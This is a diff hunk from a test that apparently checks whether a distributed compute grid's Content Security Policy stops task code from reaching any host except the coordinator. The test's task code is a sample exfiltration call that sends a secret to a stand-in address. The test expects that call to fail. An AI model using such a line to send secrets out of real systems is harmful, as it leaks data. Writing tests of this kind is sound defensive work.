@@ -233,7 +233,7 @@ test('task code can reach the coordinator but nothing else: the Content Security
     await fetch('http://127.0.0.2:9/collect?secret=' + x);
     return 'sent';
   }`;
-  const job = await grid(coordinator).submit({ name: 'exfiltrate', code, input: { items: ['volunteer data'] }, retry: { maxAttempts: 1 } });
+  const job = await grid(coordinator).submit({ name: 'exfiltrate', code, input: { items: ['volunteer data'] }, retry: { maxAttempts: 1, distinctWorkers: 1 } });
   const failure = await job.wait({ timeoutMs: 60_000 }).catch((error: unknown) => error);
   expect(failure).toMatchObject({ name: 'JobFailedError' });
   const { state, error } = await job.status();
